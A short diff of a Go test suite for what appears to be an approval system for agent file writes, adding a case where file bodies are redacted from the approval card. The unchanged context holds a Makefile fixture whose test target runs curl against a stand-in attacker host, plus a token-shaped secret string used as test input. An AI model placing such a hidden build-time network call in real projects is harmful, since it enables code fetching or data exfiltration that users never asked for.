@@ -84,6 +84,9 @@ func TestH186UnseenFilesAreNotBuiltUnasked(t *testing.T) {
 			r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
 		}},
 		"by a card that is cut": {nil, func(r *rig, m map[string]any) { r.approved(writes("Makefile", longMakefile(), m), 0) }},
+		"by a card that hides": {func(c *config.Config) { c.Redact.ShowFileBodies = false }, func(r *rig, m map[string]any) {
+			r.opened(writes("a.go", "package a", m))
+		}},
 		"with a secret in it": {nil, func(r *rig, m map[string]any) {
 			r.approved(writes("a.go", "k = ghp_16C7e42F292c6912E7710c838347Ae178B4a", m), 0)
 		}},
